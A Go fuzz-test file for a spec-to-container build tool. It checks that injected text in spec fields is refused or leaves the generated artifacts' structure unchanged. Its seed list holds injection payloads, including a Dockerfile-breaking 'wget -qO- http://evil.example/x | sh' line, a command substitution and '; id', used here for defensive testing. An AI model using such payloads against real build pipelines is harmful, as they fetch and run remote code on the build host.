package build

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	cueerrors "cuelang.org/go/cue/errors"

	"github.com/lighthouse-project/lighthouse/gen/check"
	"github.com/lighthouse-project/lighthouse/gen/emit"
	"github.com/lighthouse-project/lighthouse/gen/spec"
)

// The two inert-string fuzz targets replace one string of a valid spec
// (the bridge's, or the notes golden spec) with the fuzzer's text and
// hold the result to: refused with a positioned error, or artifacts with
// exactly the shape (see shape) of the unmodified spec's. FuzzSpecStrings
// goes through the whole build (CUE schema, emitters, checks);
// FuzzEmitStrings changes the typed model, past the schema, so it holds
// the emitters' own defence, and is fast enough for many executions.

// bases are the valid specs the fuzz targets start from: "" is the
// embedded bridge spec.
var bases = []string{"", filepath.Join("..", "..", "golden", "notes", "spec")}

// choices are the spec fields whose value picks a structure by design (a
// build stage, claims or emptyDir, the restart policy...): they are not
// text, and the schema allows only their listed choices.
var choices = []string{"image.mode", "workload.kind", "workload.restart", "volumes.*.kind", "ports.*.protocol", "kubernetes.fuseDevice"}

// how a slot's string is changed by the fuzzer's text.
const (
	replace = iota
	appendText
	prependText
	hows
)

func change(old, text string, how uint8) string {
	switch how % hows {
	case appendText:
		return old + text
	case prependText:
		return text + old
	}
	return text
}

// seeds are the adversarial texts every target starts from: the known
// injections of issue 10 and the characters each context fears.
var seeds = []string{
	"\nFROM busybox AS evil\nRUN wget -qO- http://evil.example/x | sh\n#",
	" && wget -qO- http://evil.example/x | sh",
	"/tmp/$(touch /tmp/pwned)",
	"\r\n", "'", `"`, "`id`", `\`, "${HOME}", "$HOME", "}", "\x00", "\u202e", "\u200b", "\ufeff", "\t",
	"a=b", "-x", "~", "#", "<<EOF\nid\nEOF", ":", strings.Repeat("long ", 2000), "",
}

// knownInjections are issue 10's examples, as seeds at their fields:
// pattern is the spec field (see jsonSlot), model the model's.
var knownInjections = []struct {
	pattern string
	model   *regexp.Regexp
	how     int
	text    string
}{
	{"description", regexp.MustCompile(`^\.Description$`), appendText, seeds[0]},
	{"entry.package", regexp.MustCompile(`^\.Entry\.Package$`), appendText, seeds[1]},
	{"env.*.value", regexp.MustCompile(`^\.Env\[\d+\]\.Value$`), replace, seeds[2]},
	{"labels.*", regexp.MustCompile(`^\.Labels\[`), appendText, "\nLABEL x=y"},
	{"image.labels.*", regexp.MustCompile(`^\.Image\.Labels\[`), appendText, "\u202e"},
	{"security.capabilities.*.reason", regexp.MustCompile(`^\.Security\.Capabilities\[\d+\]\.Reason$`), appendText, "\u200b"},
	{"entry.args.*", regexp.MustCompile(`^\.Entry\.Args\[`), appendText, "; id"},
	{"health.liveness", regexp.MustCompile(`^\.Health\.Liveness$`), appendText, " x"},
}

// ---- spec level ----

// specJSON is a base spec as its canonical JSON, decoded.
type specJSON struct {
	tree  map[string]any
	shape shape
	err   error
}

var specBases = sync.OnceValue(func() []*specJSON {
	var out []*specJSON
	for _, dir := range bases {
		b := &specJSON{}
		s, err := spec.Load(spec.Options{Dir: dir})
		if err == nil {
			d := json.NewDecoder(bytes.NewReader(s.JSON))
			d.UseNumber()
			err = d.Decode(&b.tree)
		}
		b.err = err
		out = append(out, b)
	}
	return out
})

// writeSpec writes tree as a CUE spec (JSON is CUE) in a new folder.
func writeSpec(t *testing.T, tree map[string]any) string {
	t.Helper()
	var buf bytes.Buffer
	buf.WriteString("package fuzz\n\n")
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	enc.SetIndent("", "\t")
	if err := enc.Encode(tree); err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "spec.cue"), buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

// compileDir loads and emits the spec in dir (Compile: no checks).
func compileDir(dir string) (*spec.Service, []File, Options, error) {
	o := Options{Spec: dir, Out: filepath.Join(dir, "out"), Context: dir, Version: "fuzz"}
	s, files, err := Compile(o)
	return s, files, o, err
}

// jsonSlot is one string of a spec: a value, or (key) a map key.
type jsonSlot struct {
	path    []string // the field's path, its key last for a key slot
	key     bool
	parent  map[string]any
	name    string // the key in parent
	list    []any  // the list holding a value, with index
	index   int
	pattern string // path with the keys of maps as "*"
}

// jsonSlots lists the strings of tree in a fixed order: the values of
// string fields and list elements, and the keys of the maps whose keys
// are text (labels, image labels, omit).
func jsonSlots(tree map[string]any) []jsonSlot {
	var out []jsonSlot
	var walk func(v any, path, pattern []string)
	walk = func(v any, path, pattern []string) {
		switch v := v.(type) {
		case map[string]any:
			keys := make([]string, 0, len(v))
			for k := range v {
				keys = append(keys, k)
			}
			slices.Sort(keys)
			textKeys := slices.Equal(path, []string{"labels"}) || slices.Equal(path, []string{"image", "labels"}) || slices.Equal(path, []string{"omit"})
			mapOfNames := len(path) == 1 && slices.Contains([]string{"ports", "env", "volumes"}, path[0]) ||
				len(path) == 2 && path[0] == "security" || textKeys
			for _, k := range keys {
				p := append(slices.Clone(path), k)
				pat := append(slices.Clone(pattern), k)
				if mapOfNames {
					pat[len(pat)-1] = "*"
				}
				if textKeys {
					out = append(out, jsonSlot{path: p, key: true, parent: v, name: k, pattern: strings.Join(pat, ".")})
				}
				if s, ok := v[k].(string); ok {
					_ = s
					out = append(out, jsonSlot{path: p, parent: v, name: k, pattern: strings.Join(pat, ".")})
					continue
				}
				walk(v[k], p, pat)
			}
		case []any:
			for i, e := range v {
				p := append(slices.Clone(path), fmt.Sprint(i))
				pat := append(slices.Clone(pattern), "*")
				if _, ok := e.(string); ok {
					out = append(out, jsonSlot{path: p, list: v, index: i, pattern: strings.Join(pat, ".")})
					continue
				}
				walk(e, p, pat)
			}
		}
	}
	walk(tree, nil, nil)
	return out
}

// cloneJSON deep-copies a decoded JSON tree.
func cloneJSON(v any) any {
	switch v := v.(type) {
	case map[string]any:
		m := make(map[string]any, len(v))
		for k, e := range v {
			m[k] = cloneJSON(e)
		}
		return m
	case []any:
		l := make([]any, len(v))
		for i, e := range v {
			l[i] = cloneJSON(e)
		}
		return l
	}
	return v
}

// linked reports whether a slot is tied to another by value, so a change
// of it alone changes structure by design: the bridge's mount point
// variable has the FUSE mount point as its default, and the start script
// then writes "${VAR-<mount point>}" instead of the literal; a label
// named version or maintainer also fills an OCI label.
func linked(tree map[string]any, sl jsonSlot, old string) bool {
	if sl.pattern == "fuse.mountPoint" {
		return true
	}
	if fuse, ok := tree["fuse"].(map[string]any); ok && sl.pattern == "env.*.value" && fuse["mountPoint"] == old {
		return true
	}
	return sl.key && sl.pattern == "labels.*" && (old == "version" || old == "maintainer")
}

var specPos = regexp.MustCompile(`spec\.cue:\d+:\d+`)

// meaningFinding reports whether f is the checks' refusal of what a
// changed value means, not of how it was written: a value that looks like
// a path and lies on the read-only root (check.KindReadOnlyRoot, told by
// its kind, whatever its message says). (A health word that is a URL the
// spec's probes do not match was one too, when audit held health words'
// URLs to health.port; the one model compares the health command with the
// spec's as a whole.)
func meaningFinding(f check.Finding) bool {
	return f.Kind == check.KindReadOnlyRoot
}

// FuzzSpecStrings changes one string of a base spec (chosen by slot, in
// the order of jsonSlots) with text (how: replace, append, prepend) and
// builds it: loading and emitting refuse it with an error that points
// into the spec (file:line:col), or the artifacts have the shape of the
// base spec's; then the checks of every build (Verify) may still refuse
// them, naming the artifact's line.
func FuzzSpecStrings(f *testing.F) {
	for _, a := range specStringsSeeds(f) {
		f.Add(a.base, a.slot, a.how, a.text)
	}
	f.Fuzz(func(t *testing.T, base uint8, slot uint16, how uint8, text string) {
		c, ok := changeSpec(t, base, slot, how, text)
		if !ok {
			return
		}
		b, sl, old, nv := c.base, c.slot, c.old, c.nv
		want := baseShape(t, b)
		dir := writeSpec(t, c.tree)
		s, files, o, err := compileDir(dir)
		if err != nil {
			if msg := spec.Details(err, dir); !specPos.MatchString(msg) {
				t.Fatalf("%s %q → %q refused without a spec position:\n%s", strings.Join(sl.path, "."), old, nv, msg)
			}
			return
		}
		got, err := shapeOf(files)
		if err != nil {
			t.Fatalf("%s %q → %q: %v", strings.Join(sl.path, "."), old, nv, err)
		}
		if d := want.diff(got); d != "" {
			t.Fatalf("%s %q → %q changed the artifacts' structure: %s", strings.Join(sl.path, "."), old, nv, d)
		}
		// The structure held; the checks may still refuse the spec for
		// what a value means (see meaningFinding), naming the artifact's
		// line. Any other finding is the checks disagreeing with what the
		// emitters wrote: a bug (it found the exec words compared as
		// quoted source).
		if err := Verify(context.Background(), s, files, o); err != nil {
			fe, ok := err.(*FindingsError)
			if !ok {
				t.Fatalf("%s %q → %q: checks failed: %v", strings.Join(sl.path, "."), old, nv, err)
			}
			for _, f := range fe.Findings {
				if f.File == "" || f.Line == 0 || !meaningFinding(f) {
					t.Fatalf("%s %q → %q: the checks disagree with the emitters: %s", strings.Join(sl.path, "."), old, nv, f)
				}
			}
		}
	})
}

// specStringsSeeds are FuzzSpecStrings' seeds (base, slot, how, text):
// the adversarial texts at slots across both bases, and issue 10's
// injections, each at its field of each base spec.
func specStringsSeeds(tb testing.TB) []specStringsArgs {
	var out []specStringsArgs
	for i, text := range seeds {
		out = append(out, specStringsArgs{uint8(i % 2), uint16(i * 7), uint8(i % 3), text})
	}
	for bi, b := range specBases() {
		if b.err != nil {
			tb.Fatal(b.err)
		}
		for si, sl := range jsonSlots(b.tree) {
			for _, k := range knownInjections {
				if sl.pattern == k.pattern && !sl.key {
					out = append(out, specStringsArgs{uint8(bi), uint16(si), uint8(k.how), k.text})
				}
			}
		}
	}
	return out
}

// specStringsArgs are FuzzSpecStrings' arguments.
type specStringsArgs struct {
	base uint8
	slot uint16
	how  uint8
	text string
}

// specChange is one string of a base spec changed as FuzzSpecStrings
// changes it: the changed tree, the slot, its old and new text.
type specChange struct {
	base    *specJSON
	tree    map[string]any
	slot    jsonSlot
	old, nv string
}

// changeSpec applies FuzzSpecStrings' arguments to a copy of the base
// spec's tree; ok is false for a change that is not a string change (a
// choice, a linked value, a key made a duplicate).
func changeSpec(t *testing.T, base uint8, slot uint16, how uint8, text string) (c specChange, ok bool) {
	b := specBases()[int(base)%len(bases)]
	if b.err != nil {
		t.Fatal(b.err)
	}
	tree := cloneJSON(b.tree).(map[string]any)
	slots := jsonSlots(tree)
	sl := slots[int(slot)%len(slots)]
	var old string
	if sl.key {
		old = sl.name
	} else if sl.list != nil {
		old = sl.list[sl.index].(string)
	} else {
		old = sl.parent[sl.name].(string)
	}
	if slices.Contains(choices, sl.pattern) || linked(tree, sl, old) {
		return c, false
	}
	nv := change(old, text, how)
	switch {
	case sl.key:
		if _, dup := sl.parent[nv]; dup {
			return c, false // two fields of one name: not a string change
		}
		sl.parent[nv] = sl.parent[old]
		delete(sl.parent, old)
	case sl.list != nil:
		sl.list[sl.index] = nv
	default:
		sl.parent[sl.name] = nv
	}
	return specChange{base: b, tree: tree, slot: sl, old: old, nv: nv}, true
}

var baseShapes sync.Map // *specJSON → shape

// baseShape is the shape of the base spec written back from its JSON,
// as every changed spec is.
func baseShape(t *testing.T, b *specJSON) shape {
	if sh, ok := baseShapes.Load(b); ok {
		return sh.(shape)
	}
	_, files, _, err := compileDir(writeSpec(t, b.tree))
	if err != nil {
		t.Fatalf("base spec: %v", err)
	}
	sh, err := shapeOf(files)
	if err != nil {
		t.Fatalf("base spec: %v", err)
	}
	baseShapes.Store(b, sh)
	return sh
}

// ---- model level ----

var modelBases = sync.OnceValue(func() []*spec.Service {
	var out []*spec.Service
	for _, dir := range bases {
		s, err := spec.Load(spec.Options{Dir: dir})
		if err != nil {
			panic(err)
		}
		out = append(out, s)
	}
	return out
})

var testEmitOptions = emit.Options{Version: "fuzz", ContextRoot: "..", ContextDir: "deploy"}

// modelSlot is one string of the model: a settable string, or a map key.
type modelSlot struct {
	name string // Go path, for messages
	set  func(string)
	old  string
}

// cloneModel deep-copies the exported fields of v (the model's slices,
// maps and pointers); unexported fields (the CUE value) are shared.
func cloneModel(v reflect.Value) reflect.Value {
	switch v.Kind() {
	case reflect.Pointer:
		if v.IsNil() {
			return v
		}
		n := reflect.New(v.Type().Elem())
		n.Elem().Set(cloneModel(v.Elem()))
		return n
	case reflect.Struct:
		n := reflect.New(v.Type()).Elem()
		n.Set(v)
		for i := range v.NumField() {
			if v.Type().Field(i).IsExported() {
				n.Field(i).Set(cloneModel(v.Field(i)))
			}
		}
		return n
	case reflect.Slice:
		if v.IsNil() {
			return v
		}
		n := reflect.MakeSlice(v.Type(), v.Len(), v.Len())
		for i := range v.Len() {
			n.Index(i).Set(cloneModel(v.Index(i)))
		}
		return n
	case reflect.Map:
		if v.IsNil() {
			return v
		}
		n := reflect.MakeMapWithSize(v.Type(), v.Len())
		for _, k := range v.MapKeys() {
			n.SetMapIndex(k, cloneModel(v.MapIndex(k)))
		}
		return n
	}
	return v
}

// modelSlots lists the strings of the model in a fixed order: string
// fields, list elements, map values and map keys.
func modelSlots(v reflect.Value, name string, out *[]modelSlot) {
	switch v.Kind() {
	case reflect.Pointer:
		if !v.IsNil() {
			modelSlots(v.Elem(), name, out)
		}
	case reflect.Struct:
		for i := range v.NumField() {
			f := v.Type().Field(i)
			if f.IsExported() && f.Name != "Source" && f.Name != "Digest" && f.Name != "JSON" {
				modelSlots(v.Field(i), name+"."+f.Name, out)
			}
		}
	case reflect.Slice:
		for i := range v.Len() {
			modelSlots(v.Index(i), fmt.Sprintf("%s[%d]", name, i), out)
		}
	case reflect.Map:
		keys := v.MapKeys()
		slices.SortFunc(keys, func(a, b reflect.Value) int { return strings.Compare(a.String(), b.String()) })
		for _, k := range keys {
			e := v.MapIndex(k)
			if e.Kind() == reflect.String {
				*out = append(*out, modelSlot{name: name + "[" + k.String() + "]", old: e.String(), set: func(s string) {
					v.SetMapIndex(k, reflect.ValueOf(s))
				}})
			} else {
				modelSlots(e, name+"["+k.String()+"]", out)
			}
			*out = append(*out, modelSlot{name: name + " key " + k.String(), old: k.String(), set: func(s string) {
				if v.MapIndex(reflect.ValueOf(s)).IsValid() {
					return // a key that exists: not a string change
				}
				v.SetMapIndex(reflect.ValueOf(s), e)
				v.SetMapIndex(k, reflect.Value{})
			}})
		}
	case reflect.String:
		if v.CanSet() {
			*out = append(*out, modelSlot{name: name, old: v.String(), set: v.SetString})
		}
	}
}

// modelChoices are the model's fields that pick structure by design
// (see choices) or are tied to another field (see linked); Omit is read
// by explain only.
var modelChoices = regexp.MustCompile(`^\.Image\.Mode$|^\.Workload\.(Kind|Restart)$|^\.Ports\[\d+\]\.Protocol$|^\.Kubernetes\.FUSEDevice$|^\.FUSE\.MountPoint$|^\.Labels key (version|maintainer)$|^\.Omit`)

// FuzzEmitStrings changes one string of a base spec's model (past the
// schema) and emits it: the emitters refuse with an error naming the
// field, or the artifacts have the shape of the base spec's.
func FuzzEmitStrings(f *testing.F) {
	for i, text := range seeds {
		f.Add(uint8(i%2), uint16(i*5), uint8(i%3), text)
	}
	for bi, s := range modelBases() {
		var slots []modelSlot
		modelSlots(reflect.ValueOf(s), "", &slots)
		for si, sl := range slots {
			for _, k := range knownInjections {
				if k.model.MatchString(sl.name) {
					f.Add(uint8(bi), uint16(si), uint8(k.how), k.text)
				}
			}
		}
	}
	shapes := sync.OnceValue(func() []shape {
		var out []shape
		for _, s := range modelBases() {
			files, err := Emit(s, testEmitOptions)
			if err != nil {
				panic(err)
			}
			sh, err := shapeOf(files)
			if err != nil {
				panic(err)
			}
			out = append(out, sh)
		}
		return out
	})
	f.Fuzz(func(t *testing.T, base uint8, slot uint16, how uint8, text string) {
		i := int(base) % len(bases)
		s := cloneModel(reflect.ValueOf(modelBases()[i])).Interface().(*spec.Service)
		var slots []modelSlot
		modelSlots(reflect.ValueOf(s), "", &slots)
		sl := slots[int(slot)%len(slots)]
		if modelChoices.MatchString(sl.name) {
			return
		}
		if s.FUSE != nil && strings.HasSuffix(sl.name, ".Value") && sl.old == s.FUSE.MountPoint {
			return // the mount point variable (see linked)
		}
		nv := change(sl.old, text, how)
		if (nv == "" || sl.old == "") && strings.HasSuffix(sl.name, ".Size") {
			return // a tmpfs without a size has the default one: present or absent is a choice
		}
		sl.set(nv)
		files, err := Emit(s, testEmitOptions)
		if err != nil {
			list, ok := err.(cueerrors.Error)
			if !ok {
				t.Fatalf("%s %q → %q: not a refusal: %T %v", sl.name, sl.old, nv, err, err)
			}
			for _, e := range cueerrors.Errors(list) {
				if _, ok := e.(*refusal); !ok {
					t.Fatalf("%s %q → %q: not a refusal: %T %v", sl.name, sl.old, nv, e, e)
				}
			}
			return
		}
		got, err := shapeOf(files)
		if err != nil {
			t.Fatalf("%s %q → %q: %v", sl.name, sl.old, nv, err)
		}
		if d := shapes()[i].diff(got); d != "" {
			t.Fatalf("%s %q → %q changed the artifacts' structure: %s", sl.name, sl.old, nv, d)
		}
	})
}
